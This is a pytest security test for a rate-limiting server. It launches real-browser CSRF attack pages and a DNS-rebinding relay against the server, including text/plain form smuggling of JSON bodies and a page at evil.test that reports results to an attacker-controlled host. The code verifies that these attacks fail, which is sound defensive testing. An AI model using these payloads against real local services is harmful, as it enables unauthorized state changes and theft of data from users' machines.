# SPDX-License-Identifier: MIT
"""Web pages against a server without tokens, in a real browser.

One page is of another origin: it may send, but must not change anything or read an answer. The
other has pointed its own name at the server (DNS rebinding), so that the browser takes both for one
origin: it may read what it is answered, and must be answered with refusals alone.
"""
import http.server
import json
import re
import socket
import threading
import urllib.request

import pytest

from browser import needs_chromium, open_page
from server import Server

RULES = """
domain: shop
descriptors:
  - key: user
    rate_limit: {unit: hour, requests_per_unit: 5}
  - key: remote_address
    rate_limit: {unit: hour, requests_per_unit: 1000}
"""
SECRET = "ann-of-the-shop"
IP = {"domain": "shop", "descriptors": [{"entries": [{"key": "user", "value": SECRET}]}]}
OPTIONS = ["--http-domain", "shop", "--watch", "0"]
PAGE_S = 60

# Each try is [name, what became of it]. A try that fails in the browser has changed nothing either.
SCRIPT = """
const tries = [], take = %(take)s, block = %(block)s;
const changes = [["/v1/take", take], ["/v1/reset", take], ["/v1/block", block],
    ["/v1/charge", take], ["/json", take], ["/v1/reload", "{}"], ["/v1/reload", ""],
    ["/v1/pools/p/next", ""], ["/v1/pools/p/add", '{"key":"evil","quotas":["1/1s"]}'],
    ["/auth?domain=shop", ""]];
const reads = ["/v1/stats", "/v1/top", "/metrics", "/rlconfig", "/v1/pools", "/openapi.json", "/",
    "/v1/explain?domain=shop&user=%(secret)s", "/auth?domain=shop"];

async function attempt(name, run) {
    try { tries.push([name, await run()]); } catch (error) { tries.push([name, "failed"]); }
}

async function send(url, options) {
    const answer = await fetch(url, options);
    return answer.type === "opaque" ? "opaque" : answer.status + " " + await answer.text();
}

function element(tag, set) {
    return new Promise(done => {
        const made = document.createElement(tag);
        made.onload = made.onerror = () => done("sent");
        set(made);
        document.body.append(made);
        setTimeout(() => done("late"), 3000);
    });
}

function postForm(url, enctype, text, number) {
    return element("iframe", frame => {
        frame.name = "frame" + number;
        const form = document.createElement("form"), input = document.createElement("input");
        Object.assign(form, {method: "post", action: url, enctype, target: frame.name});
        // The body is NAME=VALUE: its '=' stands in a string.
        Object.assign(input, {type: "hidden", name: text.slice(0, -1) + ',"request_id":"',
            value: '"}'});
        form.append(input);
        document.body.append(form);
        setTimeout(() => form.submit(), 10);
    });
}

async function report() {
    await fetch("%(home)s/report", {method: "POST", mode: "no-cors", body: JSON.stringify(tries)});
}
"""

FOREIGN = SCRIPT + """
async function run() {
    let number = 0;
    for (const server of %(servers)s) {
        for (const [path, text] of changes) {
            const url = server + path;
            for (const body of [new Blob([text]), text, new URLSearchParams({a: text})])
                await attempt("no-cors " + path,
                              () => send(url, {method: "POST", mode: "no-cors", body}));
            await attempt("beacon " + path,
                          async () => navigator.sendBeacon(url, new Blob([text])) && "sent");
            await attempt("cors json " + path, () => send(url, {method: "POST", body: text,
                headers: {"Content-Type": "application/json", "X-Forwarded-For": "10.9.9.9"}}));
            await attempt("put " + path, () => send(url, {method: "PUT", body: text}));
            await attempt("form " + path, () => postForm(url, "text/plain", text, number++));
        }
        for (const path of reads) {
            await attempt("cors " + path, () => send(server + path));
            await attempt("no-cors " + path, () => send(server + path, {mode: "no-cors"}));
            await attempt("img " + path, () => element("img", img => { img.src = server + path; }));
            await attempt("script " + path,
                          () => element("script", script => { script.src = server + path; }));
        }
    }
    await report();
}
run();
"""

REBOUND = SCRIPT + """
async function run() {
    const types = [{"Content-Type": "application/json"}, {"Content-Type": "text/plain"},
        {"Content-Type": "application/json", "X-Forwarded-For": "10.9.9.9"}];
    for (const [path, text] of changes)
        for (const headers of types)
            await attempt("POST " + path, () => send(path, {method: "POST", headers, body: text}));
    for (const path of reads)
        await attempt("GET " + path, () => send(path, {cache: "no-store"}));
    await report();
}
run();
"""


class Home:
    """The author's server: has the page at /attack, and gets what it reports."""

    def __init__(self):
        self.page, self.reported, self.tries = "", threading.Event(), []
        home = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def answer(self, body):
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_GET(self):
                self.answer(home.page.encode() if self.path == "/attack" else b"")

            def do_POST(self):
                text = self.rfile.read(int(self.headers["Content-Length"]))
                self.answer(b"")
                home.tries = json.loads(text)
                home.reported.set()

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def write(self, script, **words):
        text = script % {"take": json.dumps(json.dumps(IP)), "secret": SECRET,
                         "block": json.dumps(json.dumps({**IP, "for_ms": 60000})),
                         "home": f"http://127.0.0.1:{self.port}",
                         **{name: json.dumps(word) for name, word in words.items()}}
        self.page = f"<!doctype html><body><script>{text}</script>"

    def wait(self):
        assert self.reported.wait(PAGE_S), "the page has not reported"
        return self.tries

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.server.shutdown()
        self.server.server_close()


def pump(source, target):
    try:
        while got := source.recv(65536):
            target.sendall(got)
    except OSError:
        pass
    for end in (source, target):
        try:
            end.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass


class Rebinding:
    """A name's address before and after: its author's page, then the server itself, byte by byte.
    """

    def __init__(self, home_port, server_port):
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port, self.ports = self.listener.getsockname()[1], (home_port, server_port)
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        while True:
            try:
                client, _ = self.listener.accept()
            except OSError:
                return
            threading.Thread(target=self.relay, args=(client,), daemon=True).start()

    def relay(self, client):
        begin = client.recv(16, socket.MSG_PEEK)
        port = self.ports[0 if begin.startswith(b"GET /attack ") else 1]
        try:
            server = socket.create_connection(("127.0.0.1", port))
        except OSError:
            client.close()
            return
        with client, server:
            back = threading.Thread(target=pump, args=(server, client), daemon=True)
            back.start()
            pump(client, server)
            back.join(20)

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.listener.close()


def metrics(server):
    with urllib.request.urlopen(server.url("/metrics"), timeout=20) as answer:
        return answer.read().decode()


def counts(server):
    """What any decision, block, pool or reload would change."""
    return [line for line in metrics(server).splitlines()
            if re.match(r"stint_(decisions|units|reloads|rules|generation|live|blocks|pool)", line)]


def refused(server):
    return int(re.search(r'stint_malformed_total\{frontend="http"\} (\d+)', metrics(server))[1])


both_ways = pytest.mark.parametrize(
    "options", [[], ["--http-trusted-proxies", "127.0.0.1"]], ids=["alone", "behind-a-proxy"])


def serve(*options):
    """A server that has granted two of five units to a key."""
    server = Server(*OPTIONS, *options, rules=RULES)
    status, _ = server.post("/v1/take", {**IP, "cost": 2})
    assert status == 200
    return server


def assert_untouched(server, before):
    assert counts(server) == before
    status, told = server.post("/v1/peek", {**IP, "cost": 0})
    assert (status, told["outcome"], told["remaining"]) == (200, "allow", 3)


@needs_chromium
@both_ways
def test_a_page_of_another_origin_changes_and_reads_nothing(options, tmp_path):
    with serve(*options) as server, Home() as home:
        home.write(FOREIGN, servers=[f"http://{host}:{server.http}" for host in
                                     ("127.0.0.1", "localhost")])
        before, refused_before = counts(server), refused(server)
        with open_page(tmp_path, f"http://127.0.0.1:{home.port}/attack"):
            tries = home.wait()
        assert_untouched(server, before)
        # Nothing was readable: answers without CORS are opaque, or an error.
        seen = {outcome for _, outcome in tries}
        assert seen <= {"opaque", "failed", "sent", "late"}, seen
        # The tries did reach the server: each POST that needs no preflight was refused there.
        sent = [name for name, outcome in tries if re.match(r"no-cors /.*(take|reset)", name)]
        assert len(sent) == 12
        assert refused(server) - refused_before > 60


@needs_chromium
@both_ways
def test_a_page_whose_name_leads_here_reads_and_changes_nothing(options, tmp_path):
    with serve(*options) as server, Home() as home, Rebinding(home.port, server.http) as name:
        home.write(REBOUND)
        before = counts(server)
        with open_page(tmp_path, f"http://evil.test:{name.port}/attack",
                       "--host-resolver-rules=MAP evil.test 127.0.0.1"):
            tries = home.wait()
        assert len(tries) == 39
        for told, outcome in tries:
            assert outcome.startswith("421 ") and "evil.test" in outcome, (told, outcome)
            assert SECRET not in outcome
        assert_untouched(server, before)
